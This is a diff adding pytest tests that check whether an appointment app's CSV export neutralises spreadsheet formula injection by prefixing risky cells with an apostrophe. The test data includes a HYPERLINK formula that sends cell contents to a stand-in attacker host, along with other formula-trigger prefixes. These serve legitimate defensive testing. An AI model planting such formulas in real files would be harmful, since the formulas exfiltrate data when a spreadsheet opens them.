@@ -123,3 +123,22 @@ def test_exports_are_recorded_in_the_audit_trail(ctx, reception, patient):
         exports = [(a.detail["format"], a.detail["rows"], a.username) for a in uow.session.scalars(
             select(AuditEvent).where(AuditEvent.action == "export"))]
     assert exports == [("csv", 1, "desk"), ("ics", 1, "desk")]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"Click")', "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("reason", FORMULAS)
+def test_a_cell_a_spreadsheet_would_run_is_written_as_text(ctx, reception, patient, reason):
+    booked = insert(ctx, reception, patient.id, date(2026, 11, 26), 9)
+    cancel_appointment(ctx, reception, booked, 1, reason + " (sic)")
+    rows = list(csv.reader(io.StringIO(export_csv(ctx, reception, AppointmentFilter(therapist_id=CHRIS)))))
+    cell = rows[1][-1]
+    assert cell.startswith("'") and cell[1:] == " ".join((reason + " (sic)").split())
+
+
+def test_the_neutralising_rule():
+    from frontdesk.services.csv_export import spreadsheet_safe
+
+    assert [spreadsheet_safe(v) for v in ["=1", "+1", "-1", "@a", "\tx", "\rx", "a=1", "", 7, -7]] == [
+        "'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "a=1", "", 7, -7]
